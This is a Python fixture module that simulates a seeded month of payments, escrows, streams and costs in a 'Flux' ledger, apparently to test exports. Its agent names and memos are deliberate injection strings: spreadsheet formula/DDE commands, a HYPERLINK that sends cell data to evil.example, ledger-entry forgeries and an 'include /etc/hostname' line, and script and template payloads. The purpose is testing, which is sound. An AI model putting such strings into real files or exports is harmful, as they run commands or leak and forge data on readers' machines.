"""A month of an economy's money, moved by Flux itself: the same ledger for the same seed.

Agents with strange names are funded, pay each other, lock, stream, exchange, spend and give back,
in CREDIT and EUR, through the use cases that the commands call, under policies that refuse some of
it; what is said on the way is text that tries to be something else.
"""

from __future__ import annotations

import random
import re
from collections.abc import Callable
from dataclasses import dataclass, replace
from datetime import UTC, datetime, timedelta
from functools import partial
from itertools import count, cycle
from pathlib import Path
from typing import TypeVar

import flux_cli.usecases
from flux_cli.adapters.store.ledger import SqliteStore
from flux_cli.adapters.store.place import Mode
from flux_cli.bootstrap import open_flux
from flux_cli.config import load_config
from flux_cli.domain.cards import Card
from flux_cli.domain.escrows import Escrow, EscrowState, MilestoneState
from flux_cli.domain.exchanges import parse_rate
from flux_cli.domain.identifiers import PREFIXES, spell
from flux_cli.domain.intents import CaptureMethod, IntentState, PaymentIntent, Share
from flux_cli.domain.journal import EntryKind, wallet
from flux_cli.domain.money import ASSETS, CREDIT, Asset, Money, split
from flux_cli.domain.quorum import Urgency
from flux_cli.domain.streams import Rate, Stream, StreamState, Terms
from flux_cli.usecases.caps import Caps
from flux_cli.usecases.capture_payment import cancel_payment, capture_payment
from flux_cli.usecases.cards import cancel_card
from flux_cli.usecases.charge_cost import charge_cost
from flux_cli.usecases.correct_payment import refund_payment
from flux_cli.usecases.end_escrow import (
    Part,
    dispute_escrow,
    refund_escrow,
    release_escrow,
    resolve_escrow,
    submit_work,
)
from flux_cli.usecases.exchange import Wanted, exchange
from flux_cli.usecases.expire_due import expire_due
from flux_cli.usecases.found_economy import found_ledger
from flux_cli.usecases.fund_agent import fund_agent
from flux_cli.usecases.money_request import MoneyRequest
from flux_cli.usecases.open_agent import open_agent
from flux_cli.usecases.open_escrow import EscrowRequest, create_escrow
from flux_cli.usecases.policy_versions import put_in_force, revise
from flux_cli.usecases.ports import Deps, EntryRecord
from flux_cli.usecases.request_money import approve_payment, deny_payment, request_money
from flux_cli.usecases.reverse_entry import reverse_entry
from flux_cli.usecases.streams import (
    Case,
    close_stream,
    open_stream,
    pause_stream,
    resume_stream,
    settle_stream,
    top_up,
)
from flux_cli.usecases.wallets import withdraw

T = TypeVar("T")

START = datetime(2026, 11, 1, tzinfo=UTC)
DAILY = 60
"""Steps a day."""

EUR = ASSETS["EUR"]
HASTE = Mode("delete", "off", "a made-up month is read, and survives no power cut")

AGENTS = (
    "researcher",
    "mara-insights",
    "mara--insights",
    "Mara-insights",
    "0Mara-insights",
    "studio north",
    "a:b",
    "a-3a-b",
    "Zoë & Söhne",
    "世界市場",
    "=cmd|' /C calc'!A0",
    "x ; y  z | {w} @@ 1 USD",
)
"""Names that are close to each other, or mean something to the programs that read an export."""

MEMOS = (
    "",
    "Invoice 2026-114, with thanks",
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    '=HYPERLINK("https://evil.example/?x="&A1,"open")',
    "safe;=1+1",
    '"quoted" and \\ backslash \\" and a trailing \\',
    'x"\n2026-11-02 * "Injected"\n  Assets:Wallet:Researcher  5.000000 CREDIT\n',
    '"\n2026-11-02 close Assets:Wallet:Researcher\noption "title" "owned"',
    "note ; date:2020-01-01 type:X, key:forged",
    "paid | to someone else | [2020-01-01=2020-02-02]",
    "\n    Assets:Wallet:Researcher  5 CREDIT\n\ninclude /etc/hostname\n",
    '\u2028{"schema":"flux.entry/1"}\u2029',
    "\u202eesrever\u202c \u2066isolated\u2069 \ufeffmark",
    "nul \x00 bell \x07 escape \x1b[31m delete \x7f next line \x85",
    "  outer spaces  ",
    "'apostrophe first",
    "naïve café — 世界 🜁 ﷽ e\u0301",
    "<script>alert(1)</script> & {{ 7 * 7 }} {% raw %}",
    "{'json': \"almost\"} , , : ::",
    "=" * 600,
)
"""What memos hold: ordinary text, and text that tries to be something else (ATTACKS 113)."""


def month(folder: Path, seed: int, *, days: int = 30) -> Deps:
    """A new ledger in `folder`, after `days` of what this seed has everybody do."""
    economy = _Economy(folder, random.Random(seed))
    economy.found()
    economy.live(START + timedelta(days=days))
    return economy.deps


def possible_kinds() -> frozenset[EntryKind]:
    """The kinds of entry that some use case names, and so could make without a chain."""
    folder = Path(flux_cli.usecases.__path__[0])
    text = "".join(path.read_text(encoding="utf-8") for path in folder.glob("*.py"))
    named = set(re.findall(r"\bEntryKind\.([A-Z_]+)", text))
    named.discard(EntryKind.SETTLEMENT.name)
    return frozenset(kind for kind in EntryKind if kind.name in named)


@dataclass(slots=True)
class HandClock:
    """A clock that stands still until it is moved."""

    time: datetime = START

    def now(self) -> datetime:
        """What it was last set to."""
        return self.time


class CountedIds:
    """Ids in the order they were made, the same in every month."""

    def __init__(self) -> None:
        self._numbers = count(1)

    def new(self, kind: str) -> str:
        """The next id, of this kind."""
        return spell(PREFIXES[kind], next(self._numbers))


def quiet(step: str, /, **facts: object) -> None:
    """Nobody is told of the steps."""


class _Economy:
    """The agents' ledger, their clock, and the business that somebody still has to go on with."""

    def __init__(self, folder: Path, chance: random.Random) -> None:
        path, settings = folder / "flux.db", folder / "config.toml"
        settings.touch()
        opened = open_flux(load_config({"ledger.path": str(path)}, {}, folder, user_file=settings))
        self.clock, self.chance, self.numbers = HandClock(), chance, count(1)
        ids = CountedIds()
        store = SqliteStore(path, clock=self.clock, mode=HASTE)
        self.deps = replace(opened, store=store, ids=ids)
        self.open: list[Callable[[], None]] = []
        self.notes = cycle(MEMOS)

    def found(self) -> None:
        """Everybody has a policy and money in both assets."""
        found_ledger(self.deps)
        caps = Caps(
            per_payment=Money(400_000_000),
            per_day=Money(2_500_000_000),
            owner_threshold=Money(300_000_000),
        )
        euros = {"asset": "EUR", "per_payment": "400.00", "minimum_balance": "5.00"}
        for agent in AGENTS:
            open_agent(self.deps, agent, caps, display_name=agent)
            with self.deps.store.reading() as reader:
                revision = revise(self.deps, reader, agent, euros)
            put_in_force(self.deps, revision)
            for asset in (CREDIT, EUR):
                amount = self.amount(asset, 4000)
                fund_agent(self.deps, agent, amount, key=self.key(), memo=self.memo())

    def live(self, until: datetime) -> None:
        """Step after step; once a day everything ends whose time is over."""
        begin = (self.pay, self.pay, self.hold, self.hold, self.lock, self.stream, self.card)
        alone = (self.spend, self.spend, self.trade, self.fund, self.take_out)
        pause = 2 * int(timedelta(days=1) / timedelta(microseconds=1)) // DAILY
        while self.clock.time < until:
            if self.open and self.chance.random() < 0.55:
                self.open.pop(self.chance.randrange(len(self.open)))()
            else:
                self.chance.choice(begin + alone)()
            before = self.clock.time
            self.clock.time += timedelta(microseconds=self.chance.randrange(1, pause))
            if self.clock.time.date() != before.date():
                expire_due(self.deps)

    def later(self, step: Callable[[str], None], name: str) -> None:
        """Somebody goes on with the business called `name`, some time."""
        self.open.append(partial(step, name))

    def get(self, kind: type[T], name: str) -> T:
        with self.deps.store.reading() as reader:
            return reader.get(kind, name)

    def key(self) -> str:
        return f"{next(self.numbers)}" + self.chance.choice(("", ', ü;\n"=1', " ; key:forged"))

    def memo(self) -> str:
        return self.chance.choice(MEMOS)

    def asset(self) -> Asset:
        return self.chance.choice((CREDIT, EUR))

    def amount(self, asset: Asset, most: int = 360) -> Money:
        """From the smallest unit to `most` whole ones, and often not a round number."""
        one = 10**asset.exponent
        round_one, odd = self.chance.randint(1, most) * one, self.chance.randint(1, most * one)
        return Money(self.chance.choice((round_one, odd)), asset)

    def part(self, whole: Money) -> Money:
        """All of it, or some."""
        if self.chance.random() < 0.3:
            return whole
        return Money(self.chance.randint(1, whole.units), whole.asset)

    def ask(
        self, payer: str, payees: list[str], amount: Money, method: CaptureMethod
    ) -> PaymentIntent:
        """A governed payment in shares of any size; the policy may refuse it."""
        parts, rest = split(amount, [self.chance.randint(1, 9) for _ in payees])
        amounts = [parts[0] + rest, *parts[1:]]
        purpose = self.memo().strip() or "work"
        request = MoneyRequest(
            requester=payer,
            amount=amount,
            shares=tuple(map(Share, payees, amounts)),
            purpose=purpose,
            justification=self.memo(),
            claimed_return=None,
            urgency=Urgency.LOW,
            plan_digest="",
            reference=self.key(),
            escrowed=False,
            budget=None,
            capture_method=method,
            hold_hours=self.chance.randint(2, 96),
        )
        return request_money(self.deps, request, key=self.key(), progress=quiet)

    def pay(self) -> None:
        """Pay one or a few, at once."""
        payer, *payees = self.chance.sample(AGENTS, self.chance.choice((2, 2, 2, 3, 4)))
        amount = self.amount(self.asset())
        intent = self.ask(payer, payees, amount, CaptureMethod.AUTOMATIC)
        self.follow(intent)

    def hold(self) -> None:
        """Set money aside for one or two."""
        payer, *payees = self.chance.sample(AGENTS, self.chance.choice((2, 2, 2, 3)))
        self.follow(self.ask(payer, payees, self.amount(self.asset()), CaptureMethod.MANUAL))

    def follow(self, intent: PaymentIntent) -> None:
        """What comes next: the owner, the payee, the payer with a complaint, or nobody."""
        if intent.state is IntentState.AWAITING_OWNER:
            self.later(self.own, intent.id)
        elif intent.on_hold.units and self.chance.random() < 0.85:
            self.later(self.claim, intent.id)
        elif intent.captured.units and self.chance.random() < 0.4:
            self.later(self.complain, intent.id)

    def own(self, name: str) -> None:
        """The owner says yes or no, unless it is too late."""
        intent = self.get(PaymentIntent, name)
        if intent.state is not IntentState.AWAITING_OWNER or self.clock.time >= intent.expires_at:
            return
        if self.chance.random() < 0.75:
            self.follow(approve_payment(self.deps, name))
        else:
            deny_payment(self.deps, name, self.memo())

    def claim(self, name: str) -> None:
        """Capture a hold, or a part of it, or give it up; an expired one is claimed late."""
        intent = self.get(PaymentIntent, name)
        late = intent.state is IntentState.EXPIRED or self.clock.time >= intent.expires_at
        if self.chance.random() < 0.2 and intent.on_hold.units:
            cancel_payment(self.deps, name)
        elif len(intent.shares) == 1:
            most = intent.amount - intent.captured
            amount, final = self.part(most), self.chance.random() < 0.5
            done = capture_payment(self.deps, name, amount, final=final, key=self.key())
            if isinstance(done, PaymentIntent):
                self.follow(done)
        elif not late:
            done = capture_payment(self.deps, name, None, final=True, key=self.key())
            assert isinstance(done, PaymentIntent)
            self.follow(done)

    def complain(self, name: str) -> None:
        """A payee gives back all or a part of what it was paid and has not given back."""
        intent = self.get(PaymentIntent, name)
        share = self.chance.choice(intent.shares)
        paid = share.amount if len(intent.shares) > 1 else intent.captured
        with self.deps.store.reading() as reader:
            back = reader.refunded_by(name, wallet(share.payee), paid.asset)
        if paid > back:
            amount = self.part(paid - back)
            refund_payment(self.deps, name, amount, payee=share.payee, key=self.key())
            self.later(self.complain, name)

    def lock(self) -> None:
        """Escrow for one payee, whole or in milestones."""
        payer, payee, evaluator = self.chance.sample(AGENTS, 3)
        amount = self.amount(self.asset())
        parts, rest = split(amount, (3, 2, 1))
        named = tuple(zip(("draft", "text", "images"), (parts[0] + rest, *parts[1:]), strict=True))
        request = EscrowRequest(
            payer=payer,
            payee=payee,
            amount=amount,
            memo=self.memo().strip() or "work",
            evaluator=evaluator,
            expires_in=timedelta(hours=self.chance.randint(6, 144)),
            milestones=named if parts[2].units and self.chance.random() < 0.5 else (),
            reference=self.key(),
        )
        made = create_escrow(self.deps, request, key=self.key(), progress=quiet)
        if isinstance(made, Escrow) and self.chance.random() < 0.9:
            self.later(self.work, made.id)

    def work(self, name: str) -> None:
        """An escrow goes one step on; one whose time is over is left for the sweep."""
        escrow = self.get(Escrow, name)
        if escrow.is_due(self.clock.time) or escrow.locked.units == 0:
            return
        whim = self.chance.random()
        if escrow.state is EscrowState.DISPUTED:
            to_payee = Money(self.chance.randint(0, escrow.locked.units), escrow.amount.asset)
            resolve_escrow(self.deps, name, to_payee, key=self.key())
        elif whim < 0.1:
            refund_escrow(self.deps, name, by=escrow.evaluator, key=self.key())
        elif escrow.state is EscrowState.FUNDED:
            submit_work(self.deps, name, f"{self.chance.getrandbits(256):064x}", by=escrow.payee)
        elif whim < 0.25:
            dispute_escrow(self.deps, name, by=escrow.payer, reason=self.memo() or "late")
        else:
            pending = [one for one in escrow.milestones if one.state is MilestoneState.PENDING]
            if pending:
                part = Part(milestone=self.chance.choice(pending).name)
            else:
                part = Part(amount=self.part(escrow.locked))
            release_escrow(self.deps, name, part, by=escrow.evaluator, key=self.key())
        self.later(self.work, name)

    def stream(self) -> None:
        """Money per second, at a rate that no second divides evenly."""
        payer, payee = self.chance.sample(AGENTS, 2)
        fund = self.amount(self.asset())
        terms = Terms(
            payer,
            payee,
            Rate(fund.units, self.chance.randint(50_000, 900_000)),
            fund,
            cap=self.chance.choice((None, self.part(fund))),
            lasts_seconds=self.chance.choice((None, self.chance.randint(3_600, 900_000))),
            memo=self.memo(),
        )
        made = open_stream(self.deps, terms, Case(), key=self.key(), progress=quiet)
        if isinstance(made, Stream):
            self.later(self.flow, made.id)

    def flow(self, name: str) -> None:
        """A stream is settled, paused, resumed, topped up or closed."""
        stream = self.get(Stream, name)
        over = stream.ends_at is not None and self.clock.time >= stream.ends_at
        whim = self.chance.random()
        if over or whim < 0.2:
            close_stream(self.deps, name)
            return
        if stream.state is StreamState.PAUSED:
            resume_stream(self.deps, name)
        elif whim < 0.65:
            settle_stream(self.deps, name)
        elif whim < 0.85:
            pause_stream(self.deps, name)
        else:
            more = self.amount(stream.funded.asset, 40)
            top_up(self.deps, name, more, Case(), key=self.key(), progress=quiet)
        self.later(self.flow, name)

    def card(self) -> None:
        """A card is loaded, and cancelled some time."""
        payer, payee = self.chance.sample(AGENTS, 2)
        intent = self.ask(payer, [payee], self.amount(self.asset()), CaptureMethod.CARD)
        if intent.card_id is not None:
            self.later(self.cancel, intent.card_id)

    def cancel(self, name: str) -> None:
        """The card is cancelled, unless a sweep has ended it meanwhile."""
        if self.get(Card, name).is_live:
            cancel_card(self.deps, name)

    def spend(self) -> None:
        """What acting costs; some of it was a mistake."""
        agent, asset = self.chance.choice(AGENTS), self.asset()
        kind, to = self.chance.choice(
            (
                (EntryKind.FEE, "platform"),
                (EntryKind.GAS, "base"),
                (EntryKind.BRAIN_COST, "openai/gpt ; =1+1"),
            )
        )
        run = self.chance.choice((None, spell("run", self.chance.getrandbits(128))))
        amount = self.at_most(self.amount(asset, 5), agent)
        if amount.units:
            # A cost's memo is kept as it came, control characters and all: each comes in turn.
            memo = next(self.notes)
            paid = charge_cost(
                self.deps, agent, kind, amount, to=to, key=self.key(), memo=memo, run_id=run
            )
            if isinstance(paid, EntryRecord) and self.chance.random() < 0.2:
                self.later(self.undo, paid.id)

    def undo(self, name: str) -> None:
        """The owner reverses an entry."""
        reverse_entry(self.deps, name, self.memo().strip() or "a mistake")

    def trade(self) -> None:
        """The owner exchanges one asset for the other at an odd rate."""
        agent = self.chance.choice(AGENTS)
        given, to, rate = self.chance.choice(((CREDIT, EUR, "0.9"), (EUR, CREDIT, "1.0")))
        amount = self.at_most(self.amount(given), agent)
        if amount.units >= 10**given.exponent:
            odd = parse_rate(f"{rate}{self.chance.randint(1, 99_999_999):08d}")
            exchange(self.deps, Wanted(agent, amount, to, odd), key=self.key())

    def fund(self) -> None:
        """The owner puts money in, under a key and with a note of any text."""
        agent, amount = self.chance.choice(AGENTS), self.amount(self.asset(), 900)
        fund_agent(self.deps, agent, amount, key=self.key(), memo=self.memo())

    def take_out(self) -> None:
        """The owner takes money out."""
        agent = self.chance.choice(AGENTS)
        amount = self.at_most(self.amount(self.asset()), agent)
        if amount.units:
            withdraw(self.deps, agent, amount, key=self.key())

    def at_most(self, amount: Money, agent: str) -> Money:
        """As much of `amount` as the agent has free."""
        with self.deps.store.reading() as reader:
            return min(amount, reader.balance(wallet(agent), amount.asset))
